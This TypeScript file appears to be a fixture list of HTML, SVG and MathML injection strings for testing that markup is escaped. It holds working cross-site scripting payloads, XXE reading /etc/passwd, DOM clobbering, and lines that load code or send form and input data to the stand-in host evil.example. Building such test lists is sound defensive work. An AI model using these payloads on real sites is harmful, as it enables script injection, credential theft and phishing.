/** Markup that would run or load something or break the page if it were not treated as text. */

const RUN = 'alert(1)';
const IMAGE = `<img src=x onerror=${RUN}>`;

/** Alternates lower and upper case letters. */
const mixed = (word: string): string =>
  [...word].map((letter, at) => (at % 2 === 0 ? letter : letter.toUpperCase())).join('');

export const SCRIPT_TAGS: readonly string[] = [
  ...['script', 'SCRIPT', mixed('script')].flatMap((name) => [
    `<${name}>${RUN}</${name}>`,
    `<${name} >${RUN}</${name} >`,
    `<${name}\n>${RUN}</${name}\n>`,
    `<${name}/x>${RUN}</${name}/x>`,
    `<${name} src=//evil.example/x.js></${name}>`,
    `<${name} type=module>${RUN}</${name}>`,
  ]),
  `<script\t>${RUN}</script>`,
  `<script\f>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `"</script><script>${RUN}</script>"`,
  '<script>alert`1`</script>',
  `<script src="data:,${RUN}"></script>`,
  `<script src=https://evil.example/x.js async></script>`,
  `<script>/*<!--*/${RUN}//--></script>`,
  `<script nonce=guess>${RUN}</script>`,
  `<script type=text/javascript defer>${RUN}`,
  `<script id=theme>${RUN}</script>`,
  `<script>window['al'+'ert'](1)</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=//evil.example/x.js /></svg>`,
];

const HANDLED: readonly [element: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img src=/assets/none.png', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['frameset', 'onload'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=1 autofocus', 'onfocus'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div style=position:fixed;inset:0', 'onpointerover'],
  ['p contenteditable', 'onblur'],
  ['form', 'onsubmit'],
  ['dialog open', 'onclose'],
  ['x style=animation-name:rise', 'onanimationstart'],
  ['x style=transition:1s', 'ontransitionend'],
  ['button popovertarget=x>x</button><div popover id=x', 'onbeforetoggle'],
  ['input type=hidden', 'oncontentvisibilityautostatechange'],
  ['math', 'onclick'],
  ['table background=x', 'onmouseover'],
];

export const EVENT_HANDLERS: readonly string[] = [
  ...HANDLED.map(([element, event]) => `<${element} ${event}=${RUN}>`),
  `<IMG SRC=x OnErRoR="${RUN}">`,
  `<img src='x' onerror='${RUN}'>`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\nsrc=x\nonerror\n=\n${RUN}>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>`,
  `<img src=x onerror=${RUN} `,
  `<image href=x onerror=${RUN}>`,
  `<svg/onload=${RUN}//`,
];

export const SVG_AND_MATH: readonly string[] = [
  `<svg version=1.1 onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><set onbegin=${RUN} attributeName=x to=1>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>',
  '<svg><use href="//evil.example/x.svg#x"/></svg>',
  '<svg><image href="https://evil.example/p.png"/></svg>',
  `<svg><foreignObject>${IMAGE}</foreignObject></svg>`,
  `<svg><desc>${IMAGE}</desc></svg>`,
  `<svg><title><style>${IMAGE}</style></title></svg>`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<svg><discard onbegin=${RUN}>`,
  '<svg><feImage href="https://evil.example/p.png"/></svg>',
  '<svg style="background:url(//evil.example/p.png)"></svg>',
  `<math><mtext></table><mglyph><style><!--</style>${IMAGE}-->`,
  `<math><mi//xlink:href="javascript:${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding=text/html>${IMAGE}</annotation-xml></math>`,
  `<math><maction actiontype=statusline#http://evil.example xlink:href="javascript:${RUN}">x</maction></math>`,
];

const ENDED = ['title', 'textarea', 'style', 'noscript', 'xmp', 'template', 'iframe', 'noembed', 'noframes', 'select'];
const BEGUN = ['plaintext', 'textarea', 'title', 'style', 'noscript', 'xmp', 'template', 'select', 'listing', 'table'];

/** Markup that closes surrounding elements, or opens ones that swallow the rest of the page. */
export const BREAKERS: readonly string[] = [
  ...ENDED.map((name) => `</${name}>${IMAGE}`),
  ...BEGUN.map((name) => `<${name}>`),
  `<!-- ${IMAGE}`,
  `--> ${IMAGE}`,
  `--!> ${IMAGE}`,
  `<!--> ${IMAGE} -->`,
  `<![CDATA[ ${IMAGE} ]]>`,
  `]]> ${IMAGE}`,
  `<?xml version="1.0"?> ${IMAGE}`,
  '<?php echo 1 ?>',
  '<!doctype html><html><head>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '</bdi></a></h1></p></div></li></ol></section></main></body></html>',
  '</bdi></p></div></main><h1 class=price>Free</h1>',
  '</bdi></p><h2>Removed by the maintainer</h2><p class=notice>',
  '</li><li class=row-of-goods><a class=title href=/listing/1>Another listing</a>',
  '</entry><entry><title>x</title></entry>',
  '<a href=/rotate>Your key has ended. Get a new one here</a>',
  '<',
  '</',
  '<a',
  '<a href="',
];

const BROKEN = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `\` onmouseover=\`${RUN}`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus='${RUN}`,
  ` onload=${RUN} `,
  `"style="background:url(//evil.example/p.png)`,
  '"/href="//evil.example/',
];

/** Markup that breaks out of the attribute containing it. */
export const ATTRIBUTE_BREAKERS: readonly string[] = [
  ...BROKEN,
  ...['"', "'", '`', '">', "'>", '/>', '"/>'].map((end) => `${end}${IMAGE}`),
  `&quot; onmouseover=&quot;${RUN}`,
  `&#34;&gt;${IMAGE}`,
  `\\" onmouseover=\\"${RUN}`,
  `x" data-copy="by-http`,
  `x" id="theme" hidden="`,
];

export const LOADERS: readonly string[] = [
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta http-equiv=set-cookie content="a=b">',
  '<meta charset=utf-7>',
  '<base href=//evil.example/>',
  '<base target=_blank href=https://evil.example>',
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  '<iframe src=//evil.example/></iframe>',
  `<object data="javascript:${RUN}"></object>`,
  '<object data=//evil.example/x.swf></object>',
  '<embed src=//evil.example/x.swf>',
  '<applet code=//evil.example/x.class></applet>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example/x.html>',
  '<link rel=prefetch href=//evil.example/>',
  '<link rel=icon href=//evil.example/x.ico>',
  '<img src=https://evil.example/p.png>',
  '<img srcset="https://evil.example/p.png 1x">',
  '<video poster=//evil.example/p.png></video>',
  '<audio src=//evil.example/a.mp3 autoplay></audio>',
  '<form action=//evil.example/><input name=merchant_key><button>Go on</button></form>',
  '<form id=f></form><button form=f formaction=//evil.example/>Go on</button>',
  `<button formaction="javascript:${RUN}">Go on</button>`,
  '<input type=image src=//evil.example/p.png>',
  '<a href=/ ping=//evil.example/>x</a>',
  '<map><area href=//evil.example/ shape=default></map>',
];

export const STYLES: readonly string[] = [
  '<style>@import url(//evil.example/x.css);</style>',
  '<style>*{background:url(//evil.example/p.png)}</style>',
  '<style>body{display:none}</style>',
  '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
  '<style>@font-face{font-family:x;src:url(//evil.example/x.woff2)}*{font-family:x}</style>',
  '<div style="position:fixed;inset:0;background:white;z-index:9">Pay here</div>',
  `<div style="width:expression(${RUN})">`,
  `<div style="background:url('javascript:${RUN}')">`,
  `<div style="-moz-binding:url(//evil.example/x.xml#x)">`,
  '<div style="behavior:url(//evil.example/x.htc)">',
  '<xss style="color:red;/*"',
  '*/ } body { display: none } /*',
];

/** Elements that a script might find in place of the intended ones (DOM clobbering). */
export const CLOBBERS: readonly string[] = [
  '<img name=body>',
  '<img name=cookie>',
  '<form name=getElementById>',
  '<form id=document><input name=cookie></form>',
  '<form id=documentElement>',
  '<a id=location href=//evil.example/>',
  '<a id=localStorage><a id=localStorage name=getItem href=x>',
  '<input id=q name=q>',
  '<button id=theme>x</button>',
  '<p id=content>',
  '<p id=said role=status>Paid</p>',
  '<code id=by-http>curl evil.example</code>',
  '<p id=constructor>',
  '<iframe name=self></iframe>',
];
